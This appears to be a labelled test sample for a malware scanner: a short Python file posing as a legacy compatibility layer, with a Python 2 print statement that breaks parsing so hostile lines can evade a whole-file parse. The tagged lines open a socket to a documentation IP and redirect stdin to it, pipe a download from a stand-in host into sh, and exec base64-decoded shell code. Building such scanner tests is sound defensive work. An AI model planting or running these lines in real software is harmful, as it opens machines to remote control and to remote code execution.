# scan-sample: unparseable (a Python 2 print statement in the middle: a whole-file parse fails on every Python 3)
"""Legacy compatibility layer."""

import os
import socket

s = socket.create_connection(("198.51.100.96", 4444))  # malicious: parse-evasion
os.dup2(s.fileno(), 0)  # malicious: parse-evasion

print "legacy mode"

os.system("wget -qO- https://p.parse-cdn.example/b | sh")  # malicious: parse-evasion
exec(__import__("base64").b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))  # malicious: parse-evasion
